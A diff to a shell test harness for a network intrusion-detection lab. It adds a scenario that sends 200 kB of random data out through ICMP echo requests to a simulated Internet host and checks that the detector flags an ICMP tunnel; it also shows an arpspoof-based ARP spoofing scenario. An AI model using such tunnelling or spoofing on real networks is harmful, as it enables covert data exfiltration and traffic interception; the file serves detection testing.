@@ -41,7 +41,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel ldap-enum ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof)
+  name-poisoning arp-spoof icmp-tunnel)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -649,6 +649,8 @@ reset_lab() {
     # The ipv6 scenario turns IPv6 on for a few hosts: off again (their addresses go with it).
     nsx "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 2>/dev/null
   done
+  # The icmp-tunnel scenario stops the Internet host's kernel from echoing: on again, whatever became of it.
+  nsx inet sysctl -qw net.ipv4.icmp_echo_ignore_all=0
   nsx dhcpc ip link set eth0 address 02:77:02:00:00:46
   nsx dhcpc ip addr flush dev eth0
   rm -f "$WORK"/dhclient-*.leases "$WORK/newdev.ip"
@@ -1239,6 +1241,26 @@ scenario_arp_spoof() {
   require arp-spoof 1 "arp and ether src 02:77:00:00:00:fe and arp[6:2] == 2"
   expect arp-spoof "arpspoof -t 10.77.2.20 -r 10.77.2.254 from 10.77.2.66 for 12 s: ARP replies every 2 s telling the workstation 10.77.2.20 that the gateway 10.77.2.254 is at $MAC_ROGUE, and the gateway that 10.77.2.20 is; meanwhile 10.77.2.21 arpings the gateway and the router answers with its own MAC. arpspoof restores both caches as it stops." \
     '[{"rule": "arp.spoofing", "source": {"ip": "10.77.2.66", "mac": "'"$MAC_ROGUE"'"}, "evidence": {"gateways": ["10.77.2.254"], "victims": ["10.77.2.20"]}}]'
+}
+
+scenario_icmp_tunnel() {
+  # Ordinary large pings first: 40 of 1400 bytes from 10.77.2.21, echoed back (112 kB, and not a tunnel).
+  nsx ws21 ping -q -c 40 -i 0.2 -s 1400 -W 1 198.51.100.10 >/dev/null || true
+  # The tunnel's server on the "Internet" host answers echo requests itself: the kernel must not echo them too.
+  nsx inet sysctl -qw net.ipv4.icmp_echo_ignore_all=1
+  scen_bg inet python3 "$LAB_DIR/icmp-tunnel.py" server 198.51.100.10 300 60
+  sleep 1
+  # 10.77.2.20 sends 200 kB in echo requests of 1,000 bytes; each reply is the server's 28-byte acknowledgement.
+  head -c 200000 /dev/urandom >"$WORK/tunnel-payload.bin"
+  nsx ws20 timeout 60 python3 "$LAB_DIR/icmp-tunnel.py" client 198.51.100.10 "$WORK/tunnel-payload.bin"
+  sleep 1
+  nsx inet sysctl -qw net.ipv4.icmp_echo_ignore_all=0
+  stop_capture
+  require icmp-tunnel 200 "icmp and src host 10.77.2.20 and dst host 198.51.100.10 and icmp[icmptype] == icmp-echo"
+  require icmp-tunnel 200 "icmp and src host 198.51.100.10 and dst host 10.77.2.20 and icmp[icmptype] == icmp-echoreply"
+  require icmp-tunnel 40 "icmp and src host 198.51.100.10 and dst host 10.77.2.21 and icmp[icmptype] == icmp-echoreply"
+  expect icmp-tunnel "A ptunnel-style data channel (test/lab/icmp-tunnel.py) from 10.77.2.20 to 198.51.100.10, whose kernel does not echo: 200 kB in ICMP echo requests of 1,000 bytes, each answered by the server's own 28-byte echo reply; before it, 40 ordinary 1400-byte pings from 10.77.2.21 to the same host, echoed back (not a tunnel)." \
+    '[{"rule": "icmp.tunnel", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10"}}]'
 }
 
 # ------------------------------------------------------------------ runner
